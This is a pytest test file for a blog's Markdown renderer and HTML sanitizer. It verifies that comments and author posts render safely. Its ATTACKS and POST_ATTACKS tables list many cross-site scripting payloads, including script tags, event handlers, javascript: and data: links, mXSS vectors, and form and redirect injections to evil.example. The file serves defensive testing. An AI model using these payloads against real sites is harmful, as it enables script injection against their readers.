"""Nothing a reader types can run in another reader's browser; Markdown still works."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import html5lib
import pytest

from account.tables import UserRole
from forms import COMMENT_MAX
from forms import POST_MAX
from helpers import PATHOLOGICAL
from helpers import csrf_token
from helpers import executable_scripts
from helpers import log_in
from helpers import page_text
from helpers import post_comment
from helpers import problems
from highlighting import HIGHLIGHT_CLASSES
from markup import COMMENT_ATTRIBUTES
from markup import COMMENT_TAGS
from markup import MAX_BLOCK_LEVEL
from markup import POST_ATTRIBUTES
from markup import POST_TAGS
from markup import excerpt_of
from markup import plain_text
from markup import render_comment
from markup import render_post
from sanitizer import MAX_HTML_DEPTH

ATTACKS = {
    "script_tag": "<script>alert(1)</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg/onload=alert(1)>",
    "body_onload": "<body onload=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "markdown_javascript_link": "[click me](javascript:alert(1))",
    "markdown_mixed_case_protocol": "[click me](JaVaScRiPt:alert(1))",
    "markdown_entity_encoded_protocol": "[click me](jav&#x09;ascript:alert(1))",
    "markdown_data_uri_link": "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown_image_onerror": '![x" onerror="alert(1)](http://example.com/x.png)',
    "anchor_with_javascript_href": '<a href="javascript:alert(1)">click</a>',
    "style_tag": "<style>body{display:none}</style>",
    "inline_style_attribute": '<p style="background:url(javascript:alert(1))">hi</p>',
    "object_embed": '<object data="evil.swf"></object><embed src="evil.swf">',
    "form_injection": '<form action="http://evil.example"><input name="password"></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "unclosed_attribute_breakout": '"><script>alert(1)</script>',
    "html_comment_breakout": "<!--<img src=x onerror=alert(1)>-->",
    "markdown_link_title_breakout": '[x](http://example.com "a\\" onmouseover=\\"alert(1)")',
    "nested_script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
}


class TagCollector(HTMLParser):
    """Collect every element and attribute inside the comment bodies of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.depth = 0
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if self.depth:
            self.found.append((tag, attributes))
            if tag not in {"br", "img"}:
                self.depth += 1
        elif attributes.get("class") == "comment-body":
            self.depth = 1

    def handle_endtag(self, tag):
        if self.depth:
            self.depth -= 1


def elements_in_comments(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = TagCollector()
    collector.feed(html)
    return collector.found


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_comment_attack_is_neutralised_on_the_page(client, make_post, attack):
    post = make_post("Target")
    assert post_comment(client, post.slug, body=attack).status_code == 303

    html = page_text(client.get(f"/posts/{post.slug}"))

    assert executable_scripts(html) == []
    for tag, attributes in elements_in_comments(html):
        assert tag in {"p", "a", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "br"}, tag
        assert not any(name.startswith("on") or name == "style" for name in attributes), attributes
        href = attributes.get("href") or ""
        assert re.match(r"^(https?:|mailto:|/|#|$)", href), href


@pytest.mark.parametrize(
    "field",
    ["name", "website"],
)
def test_name_and_website_are_plain_escaped_text(client, make_post, field):
    post = make_post("Target")
    values = {"name": "<img src=x onerror=alert(1)>", "website": 'https://ok.example/"><script>alert(1)</script>'}
    post_comment(client, post.slug, **{field: values[field]})

    html = page_text(client.get(f"/posts/{post.slug}"))

    assert "<img src=x" not in html and "<script>" not in html
    assert "&lt;" in html or "&#34;&gt;" in html or "%22%3E" in html


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("*emphasis* and **bold**", "<p><em>emphasis</em> and <strong>bold</strong></p>"),
        ("`code <b>`", "<p><code>code &lt;b&gt;</code></p>"),
        ("> a quote", "<blockquote>\n<p>a quote</p>\n</blockquote>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        (
            "[a link](https://example.com)",
            '<p><a href="https://example.com" rel="nofollow ugc noopener">a link</a></p>',
        ),
        (
            "see https://example.com/page",
            '<p>see <a href="https://example.com/page" rel="nofollow ugc noopener">https://example.com/page</a></p>',
        ),
        ("# not a heading", "<p># not a heading</p>"),
        (  # CommonMark reads the rest as a link: still no image
            "![no images](http://example.com/x.png)",
            '<p>!<a href="http://example.com/x.png" rel="nofollow ugc noopener">no images</a></p>',
        ),
        ("I <3 <b>HTML</b>", "<p>I &lt;3 &lt;b&gt;HTML&lt;/b&gt;</p>"),
    ],
)
def test_comments_use_a_small_safe_markdown_subset(source, expected):
    assert render_comment(source) == expected


def test_code_blocks_are_not_linkified():
    assert "<a" not in render_comment("`https://example.com`")


def test_posts_get_full_markdown_but_no_scripts():
    html = render_post(
        "## Heading\n\n```python\nprint('<hi>')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "![alt](https://example.com/i.png)\n\n<script>alert(1)</script><iframe src=x></iframe>"
    )
    assert "<h2>Heading</h2>" in html
    assert '<code class="language-python"><span class="nb">print</span>' in html and "'&lt;hi&gt;'" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<img src="https://example.com/i.png" alt="alt">' in html
    assert "<script" not in html and "<iframe" not in html


def test_post_links_are_not_marked_nofollow():
    assert render_post("[home](https://example.com)") == '<p><a href="https://example.com">home</a></p>'


def test_excerpt_is_plain_text_cut_at_a_word():
    html = render_post("Hello &amp; *welcome*. " + "word " * 100)
    excerpt = excerpt_of(html, length=40)
    assert excerpt == "Hello & welcome. word word word word…"


def test_a_blank_line_opening_a_pre_block_is_kept_and_survives_cleaning_again():
    """Found by the idempotence property: `<pre><details><details>` lost a newline each time it was cleaned."""
    rendered = render_post("<pre>\n\nindented after a blank line</pre>")
    text = html5lib.parseFragment(rendered, namespaceHTMLElements=False)[0].text

    assert text == "\nindented after a blank line"  # as a browser reads it: the first newline belongs to <pre>
    assert render_post(rendered) == rendered


# Bounded work: any text up to its length limit renders, in time linear in its length (bench/markdown_cost.py).


@pytest.mark.parametrize("make", list(PATHOLOGICAL.values()), ids=list(PATHOLOGICAL))
def test_a_pathological_comment_of_the_longest_allowed_length_renders(make):
    source = make(COMMENT_MAX)
    assert len(source) <= COMMENT_MAX

    rendered = render_comment(source)

    assert isinstance(rendered, str) and problems(rendered, COMMENT_TAGS, COMMENT_ATTRIBUTES) == []


@pytest.mark.parametrize("make", list(PATHOLOGICAL.values()), ids=list(PATHOLOGICAL))
def test_a_pathological_post_of_the_longest_allowed_length_renders(make):
    source = make(POST_MAX)
    assert len(source) <= POST_MAX

    rendered = render_post(source)

    assert isinstance(rendered, str) and problems(rendered, POST_TAGS, POST_ATTRIBUTES) == []


@pytest.mark.parametrize(
    "source",
    ["- " * 2400 + "deepest words", "> " * 2400 + "deepest words", "1. " * 1600 + "deepest words"],
    ids=["list", "quote", "ordered_list"],
)
def test_markdown_nested_deeper_than_a_page_can_show_is_shown_flat_with_every_word(source):
    for rendered in (render_comment(source), render_post(source)):
        text = plain_text(rendered)
        assert "deepest words" in text
        assert rendered.count("<blockquote>") + rendered.count("<li>") <= MAX_BLOCK_LEVEL


def test_html_nested_deeper_than_a_page_can_show_is_shown_flat_with_every_word():
    rendered = render_post("<blockquote>" * 5000 + "deepest words")
    assert "deepest words" in rendered
    assert rendered.count("<blockquote>") <= MAX_HTML_DEPTH


def test_a_deeply_nested_comment_is_posted_and_shown_through_the_real_form(client, make_post):
    post = make_post("Target")
    body = "- " * 2400 + "deepest words"

    preview = post_comment(client, post.slug, body=body, action="preview")
    assert preview.status_code == 200 and "deepest words" in page_text(preview)
    assert post_comment(client, post.slug, body=body).status_code == 303
    assert "deepest words" in page_text(client.get(f"/posts/{post.slug}"))


def test_a_deeply_nested_post_is_saved_and_shown_through_the_real_editor(app, client, admin):
    body = "> " * 40_000 + "deepest words\n\n" + "- " * 9_000 + "last words"
    data = {"title": "Deep", "body": body, "status": "published", "comments_open": "y"}
    token = csrf_token(client, "/admin/posts/new")

    preview = client.post("/admin/posts/new", data=data | {"action": "preview", "csrf_token": token})
    assert preview.status_code == 200 and "deepest words" in page_text(preview)
    saved = client.post("/admin/posts/new", data=data | {"action": "save", "csrf_token": token})
    assert saved.status_code == 303
    page = page_text(client.get("/posts/deep"))
    assert "deepest words" in page and "last words" in page


def test_a_comment_over_the_length_limit_is_refused_without_being_rendered(client, make_post):
    """Invisible characters only, so rendering it would also say it is empty: only the length is reported."""
    post = make_post("Target")
    body = "\u200b" * (COMMENT_MAX + 1)
    response = post_comment(client, post.slug, body=body, action="preview")

    html = page_text(response)
    assert response.status_code == 400
    assert f"A comment can be at most {COMMENT_MAX:,} characters long." in html
    assert "Your comment is empty" not in html
    assert body in html  # what was typed is kept


def test_a_post_over_the_length_limit_is_refused_with_a_clear_message_and_kept(app, client, admin):
    body = "word " * (POST_MAX // 5) + "one too many"
    token = csrf_token(client, "/admin/posts/new")
    for action in ("preview", "save"):
        response = client.post(
            "/admin/posts/new",
            data={"title": "Long", "body": body, "status": "published", "action": action, "csrf_token": token},
        )
        html = page_text(response)
        assert response.status_code == 400
        assert f"A post can be at most {POST_MAX:,} characters long." in html
        assert "one too many" in html and 'class="preview"' not in html
    assert client.get("/posts/long").status_code == 404


# Posts: more Markdown than comments, but the same guarantee against what an author writes


def test_posts_have_strikethrough_footnotes_and_aligned_table_columns():
    html = render_post("~~old~~ new[^1]\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n[^1]: A note.")
    assert "<s>old</s> new" in html
    assert '<th align="left">a</th>' in html and '<td align="right">2</td>' in html
    reference, note = re.search(r'<a href="#(fn-[0-9a-f]+-1)" id="(fnref-[0-9a-f]+-1)">\[1\]</a>', html).groups()
    assert f'<li id="{reference}">' in html and f'<a href="#{note}">' in html
    assert "style=" not in html and "class=" not in html


def test_footnote_ids_differ_between_posts_so_a_listing_of_both_links_each_to_its_own():
    first = re.search(r'id="(fn-[^"]+)"', render_post("a[^1]\n\n[^1]: x")).group(1)
    second = re.search(r'id="(fn-[^"]+)"', render_post("b[^1]\n\n[^1]: y")).group(1)
    assert first != second


POST_ATTACKS = {
    # name: (what an author writes, text that must not reach the page or None)
    "script_tag": ("<script>alert('HIDDEN')</script>visible", "HIDDEN"),
    "script_in_markdown_paragraph": ("Hi <script>alert('HIDDEN')</script> there", "HIDDEN"),
    "style_tag": ("<style>body{display:none} /*HIDDEN*/</style>visible", "HIDDEN"),
    "noscript": ("<noscript>HIDDEN</noscript>visible", "HIDDEN"),
    "template": ("<template><p>HIDDEN</p></template>visible", "HIDDEN"),
    "iframe": ('<iframe src="https://evil.example">HIDDEN</iframe>visible', "HIDDEN"),
    "iframe_srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>visible', "alert"),
    "frameset": ("<frameset><frame src=https://evil.example></frameset>visible", None),
    "textarea": ("<textarea>HIDDEN</textarea>visible", "HIDDEN"),
    "xmp": ("<xmp>HIDDEN</xmp>visible", "HIDDEN"),
    "noembed": ("<noembed>HIDDEN</noembed>visible", "HIDDEN"),
    "title": ("<title>HIDDEN</title>visible", "HIDDEN"),
    "object": ('<object data="https://evil.example/x.swf">HIDDEN</object>visible', "HIDDEN"),
    "embed": ('<embed src="https://evil.example/x.swf">visible', None),
    "svg_onload": ("<svg onload=alert(1)><text>HIDDEN</text></svg>visible", "HIDDEN"),
    "svg_script": ("<svg><script>alert('HIDDEN')</script></svg>visible", "HIDDEN"),
    "math_mxss": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "alert"),
    "noscript_mxss": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', None),
    "select": ("<select><option>HIDDEN</option></select>visible", "HIDDEN"),
    "img_onerror": ('<img src="x" onerror="alert(1)">', None),
    "details_ontoggle": ("<details open ontoggle=alert(1)>visible</details>", None),
    "body_onload": ("<body onload=alert(1)>visible", None),
    "html_javascript_link": ('<a href="javascript:alert(1)">visible</a>', None),
    "html_entity_encoded_javascript": ('<a href="jav&#x61;script:alert(1)">visible</a>', None),
    "html_control_character_javascript": ('<a href="&#14;javascript:alert(1)">visible</a>', None),
    "markdown_javascript_link": ("[visible](javascript:alert(1))", None),
    "markdown_javascript_reference": ("[visible][x]\n\n[x]: javascript:alert(1)", None),
    "markdown_data_link": ("[visible](data:text/html;base64,PHNjcmlwdD4=)", None),
    "img_data_url": ('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="visible">', None),
    "markdown_image_data_url": ("![visible](data:image/svg+xml;base64,PHN2Zz4=)", None),
    "img_srcset": ('<img src="/a.png" srcset="javascript:alert(1) 1x">', None),
    "form": ('<form action="https://evil.example"><input name="password"><button>visible</button></form>', None),
    "button_formaction": ('<button formaction="javascript:alert(1)">visible</button>', None),
    "base_href": ('<base href="https://evil.example/">visible', None),
    "meta_refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">visible', None),
    "link_stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">visible', None),
    "style_attribute_overlay": ('<p style="position:fixed;inset:0;background:white">visible</p>', None),
    "style_on_table_cell": ('<table><tr><td style="position:fixed">visible</td></tr></table>', None),
    "id_clobbering": ('<a id="comment-form" name="csrf_token">visible</a>', None),
    "name_clobbering_img": ('<img name="getElementById" src="/a.png">', None),
    "forged_footnote_id": ('<a id="fn-000000000000-1" href="#x">visible</a>', None),
    "class_restyling": ('<p class="form-problem">visible</p>', None),
    "class_on_code_not_a_language": ('<code class="form-problem language-x">visible</code>', None),
    "class_on_span_not_a_highlight": ('<span class="skip-link">visible</span>', None),
    "highlight_class_hiding_another": ('<span class="k form-problem">visible</span>', None),
    "highlight_class_padded": ('<span class=" k">visible</span>', None),
    "highlight_class_on_another_tag": ('<p class="k">visible</p><code class="nf">visible</code>', None),
    "tabindex_jumping_the_queue": ('<pre tabindex="1">visible</pre><pre tabindex="-1">visible</pre>', None),
    "id_on_span": ('<span id="comment-form">visible</span>', None),
    "style_on_span": ('<span style="position:fixed;inset:0">visible</span>', None),
    "highlight_class_in_markdown_fence_info": ('```python" class="skip-link\nvisible\n```', None),
    "event_handler_on_highlighted_span": ('<span class="k" onclick="alert(1)">visible</span>', None),
    "event_handler_on_allowed_tag": ('<abbr title="x" onmouseover="alert(1)">visible</abbr>', None),
    "target_blank": ('<a href="https://example.com" target="_blank">visible</a>', None),
}
POST_ATTRIBUTE_VALUES = {
    "id": re.compile(r"fn(?:ref)?-[0-9a-f]{12}-\d+(?::\d+)?"),
    "class": re.compile(r"language-[\w+#.-]+"),
    "tabindex": re.compile("0"),  # a code block in the page's order, never ahead of or out of it
    "span class": re.compile("|".join(sorted(HIGHLIGHT_CLASSES))),  # Pygments' short names, one a span
}


def post_problems(rendered: str) -> list[str]:
    """What in a rendered post could run, send a form, frame or embed, or restyle or clobber the page."""
    found = problems(rendered, POST_TAGS, POST_ATTRIBUTES)
    for element in html5lib.parseFragment(rendered, treebuilder="etree", namespaceHTMLElements=False).iter():
        for name, value in element.attrib.items():
            rule = POST_ATTRIBUTE_VALUES.get(f"{element.tag} {name}", POST_ATTRIBUTE_VALUES.get(name))
            if rule and not rule.fullmatch(value):
                found.append(f"{name}={value!r} on <{element.tag}>")
            if name == "src" and value.strip().lower().startswith("data:"):
                found.append(f"data address on <{element.tag}>")
    return found


@pytest.mark.parametrize(("source", "hidden"), list(POST_ATTACKS.values()), ids=list(POST_ATTACKS))
def test_author_attack_is_neutralised_when_rendered(source, hidden):
    rendered = render_post(source)
    assert post_problems(rendered) == []
    if hidden:
        assert hidden not in rendered


def post_body(html: str) -> str:
    return html.split('<div class="post-body">', 1)[1].split("</article>", 1)[0].rsplit("</div>", 1)[0]


@pytest.mark.parametrize(("source", "hidden"), list(POST_ATTACKS.values()), ids=list(POST_ATTACKS))
def test_author_attack_is_neutralised_on_the_published_page(client, make_user, source, hidden):
    make_user("writer", UserRole.author)
    assert log_in(client, "writer").status_code == 302
    token = csrf_token(client, "/admin/posts/new")
    data = {"title": "Attack", "body": "Before.\n\n" + source, "status": "published", "csrf_token": token}
    preview = client.post("/admin/posts/new", data=data | {"action": "preview"})
    assert client.post("/admin/posts/new", data=data | {"action": "save"}).status_code == 303

    editors_own = executable_scripts(page_text(client.get("/admin/posts/new")))  # autosave.js, and nothing else
    published = page_text(client.get("/posts/attack"))
    readers_own = re.findall(r'<script src="/static/code\.js\?v=\w+" defer>', published)  # "Copy", with code
    assert len(readers_own) == ("<pre" in post_body(published))
    for html, scripts in ((page_text(preview), editors_own), (published, readers_own)):
        body = post_body(html)
        assert executable_scripts(html) == scripts
        assert "Before." in body
        assert post_problems(body) == []
        if hidden:
            assert hidden not in body  # the editor's own text box still holds it, on the preview
    assert hidden is None or hidden not in page_text(client.get("/posts/attack"))
